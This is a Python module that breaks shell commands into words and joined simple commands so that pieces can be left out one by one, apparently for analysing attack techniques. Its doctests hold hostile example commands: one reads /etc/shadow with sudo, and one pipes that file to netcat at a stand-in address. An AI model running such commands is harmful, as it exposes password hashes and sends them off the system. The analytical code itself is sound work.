"""What a command is made of, for leaving it out piece by piece: words, and simple commands with what joins them."""

from typing import Final

from ttpline.domain.parsed import ParsedCommand, SimpleCommand, Span

_JOINED: Final = frozenset({"pipe", "and", "or", "sequence", "background"})
_JOINING: Final = " \t\r\n|&;"


def word_spans(parsed: ParsedCommand) -> list[Span]:
    """The words of all parts by place, none within another: of a quoted script its words, not the script.

    A redirection is one piece with its operator.

    >>> from ttpline.commands.parse import parse
    >>> text = "sudo sh -c 'cat /etc/shadow' > /tmp/a"
    >>> [text[start:end] for start, end in word_spans(parse(text))]
    ['sudo', 'sh', '-c', 'cat', '/etc/shadow', '> /tmp/a']
    """
    spans: set[Span] = set()
    for part in parsed.parts:
        spans.update(word.span for word in (part.program_word, *part.arguments, *part.assignments))
        for redirection in part.redirections:
            start, end = redirection.target.span
            before = parsed.text[:start].rstrip(" \t") if start <= len(parsed.text) else ""
            has_operator = before.endswith(redirection.operator)
            spans.add((len(before) - len(redirection.operator) if has_operator else start, end))
    ordered = sorted((span for span in spans if span[0] < span[1]), key=lambda span: (span[0], -span[1]))
    leaves: list[Span] = []
    for at, (start, end) in enumerate(ordered):
        contains_next = at + 1 < len(ordered) and ordered[at + 1][0] < end
        if not contains_next and (not leaves or leaves[-1][1] <= start):
            leaves.append((start, end))
    return leaves


def part_spans(parsed: ParsedCommand) -> list[Span]:
    """The simple commands by place, each with the operator that joins it to its neighbour; none if there is one only.

    >>> from ttpline.commands.parse import parse
    >>> text = "cat /etc/shadow | nc 192.0.2.1 4444"
    >>> [text[start:end] for start, end in part_spans(parse(text))]
    ['cat /etc/shadow | ', ' | nc 192.0.2.1 4444']
    """
    text = parsed.text
    lists: dict[tuple[int, tuple[str, ...]], list[SimpleCommand]] = {}
    for part in parsed.parts:
        lists.setdefault((part.depth, part.wrappers), []).append(part)
    joined = [part.span for parts in lists.values() if any(part.joint in _JOINED for part in parts) for part in parts]
    found: list[Span] = []
    for start, end in sorted(set(joined)):
        wider = _to_the_left(text, start)
        if wider == start:
            end = _to_the_right(text, end)
        if (wider, end) != (0, len(text)) and wider < end:
            found.append((wider, end))
    return found


def _to_the_left(text: str, start: int) -> int:
    while start and text[start - 1] in _JOINING:
        start -= 1
    return start


def _to_the_right(text: str, end: int) -> int:
    while end < len(text) and text[end] in _JOINING:
        end += 1
    return end


def without(text: str, span: Span) -> str:
    """``text`` with ``span`` taken out."""
    return text[: span[0]] + text[span[1] :]
